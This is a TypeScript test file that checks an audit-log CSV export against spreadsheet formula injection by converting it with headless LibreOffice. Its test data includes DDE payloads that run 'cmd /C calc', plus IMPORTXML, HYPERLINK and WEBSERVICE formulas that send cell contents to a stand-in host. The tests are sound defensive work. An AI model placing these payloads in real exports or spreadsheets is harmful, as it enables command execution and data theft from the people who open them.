import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { unpack } from '../../exports/repack.ts'
import { fileOf, prepared } from '../../exports/rig.ts'
import type { Visitor } from '../../support/browser.ts'
import { hostileTexts } from '../../support/hostile.ts'
import { type Rig, startRig } from '../../support/rig.ts'
import { until } from '../../support/until.ts'

const signs = ['=1+1', '+1+1', '-1+1', '@SUM(A1:A9)', '＝1+1', '＋1+1', '－1+1', '＠SUM(A1)']
const before = ['', ' ', '  ', '"', "'", '"" ', '\t', '\r', '\n', '\0', '\u00a0', '\ufeff', '\u200b']
const formulas = [
  ...signs.flatMap((sign) => before.map((begin) => `${begin}${sign}`)),
  ...signs.flatMap((sign) => [
    `x;${sign}`,
    `x\t${sign}`,
    `x\n${sign}`,
    `x\r\n${sign}`,
    `x,${sign}`,
    `","${sign}`,
    `";"${sign}`,
    `"\n${sign}`,
    `x|${sign}`,
  ]),
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '=IMPORTXML("http://elsewhere.example/?"&A1,"//a")',
  '=HYPERLINK("http://elsewhere.example/"&A1,"here")',
  '=WEBSERVICE("http://elsewhere.example/")',
  '=DDE("cmd";"/C calc";"x")',
  '{=SUM(1+1)}',
]

const folder = mkdtempSync(join(tmpdir(), 'countersign-csv-'))
const hasOffice = spawnSync('soffice', ['--version']).status === 0

/** The sheet that LibreOffice makes of it, told to calculate whatever looks like a formula. */
const sheetOf = (name: string, csv: Buffer | string, separator: number): string => {
  writeFileSync(join(folder, `${name}.csv`), csv)
  const { status, stderr } = spawnSync(
    'soffice',
    [
      ...['--headless', '--norestore', `-env:UserInstallation=${pathToFileURL(join(folder, 'profile'))}`],
      ...[`--infilter=CSV:${separator},34,76,1,,0,false,true,false,false,false,0,true`, '--convert-to', 'fods', '--outdir', folder],
      join(folder, `${name}.csv`),
    ],
    { encoding: 'utf8', timeout: 120_000 },
  )
  expect([status, stderr]).toEqual([0, expect.anything()])
  return readFileSync(join(folder, `${name}.fods`), 'utf8')
}
const formulasIn = (sheet: string): string[] => sheet.match(/table:formula="[^"]*"/g) ?? []

let rig: Rig
let csv: Buffer
let rows: number
beforeAll(async () => {
  rig = await startRig()
  const auditor: Visitor = await rig.visitorWith(['auditor'])
  await rig.database.journal.recordAll(
    rig.database.store.db,
    [...formulas, ...hostileTexts().slice(0, 300)].map((text) => ({
      action: 'CONSOLE.OPENED' as const,
      result: 'ok' as const,
      actor: { kind: 'staff' as const, id: `stf_${'1'.repeat(32)}`, issuer: text, subject: text, email: text, name: text },
      tenant_id: 'ten_a',
      target: { kind: 'user' as const, id: text, label: text },
      ticket: text,
      note: text,
    })),
  )
  await until(async () => (await (await auditor.get('/api/log')).json()).pending === 0)
  const made = await prepared(auditor, { filters: { tenant_id: 'ten_a' }, format: 'csv' })
  rows = made.rows
  csv = unpack(await fileOf(auditor, made)).get('events.csv') as Buffer
})
afterAll(async () => {
  await rig?.close()
  rmSync(folder, { recursive: true, force: true })
})

describe('EX-1 formulas in an export', () => {
  it('are no formulas in LibreOffice, and every row is there', { timeout: 180_000 }, ({ skip }) => {
    if (!hasOffice) return skip('LibreOffice is not installed (Debian: libreoffice-calc)')
    expect(formulasIn(sheetOf('control', '"=1+1",2\r\n" x","=SUM(B1)"\r\n', 44)).length, 'the control has formulas').toBeGreaterThan(0)
    const sheet = sheetOf('export', csv, 44)
    expect(formulasIn(sheet)).toEqual([])
    const numbered = sheet.match(/<table:table-row[^>]*>\s*<table:table-cell[^>]*office:value-type="float" office:value="\d+"/g) ?? []
    expect(numbered).toHaveLength(rows)
  })

  it('are none either where it is opened with another separator', { timeout: 180_000 }, ({ skip }) => {
    if (!hasOffice) return skip('LibreOffice is not installed (Debian: libreoffice-calc)')
    expect(formulasIn(sheetOf('control-2', 'a;=1+1\r\n', 59)).length, 'the control has formulas').toBeGreaterThan(0)
    for (const [name, separator] of [
      ['semicolon', 59],
      ['tab', 9],
      ['bar', 124],
    ] as const)
      expect(formulasIn(sheetOf(name, csv, separator)), name).toEqual([])
  })

  it('are in the rows as they were, but for what makes them text', () => {
    const text = csv.toString('utf8')
    expect(text).toContain(`"'=cmd|' /C calc'!A0"`)
    expect(text.includes('\0')).toBe(false)
    expect(text.split('\r\n').length).toBeGreaterThan(rows)
  })
})
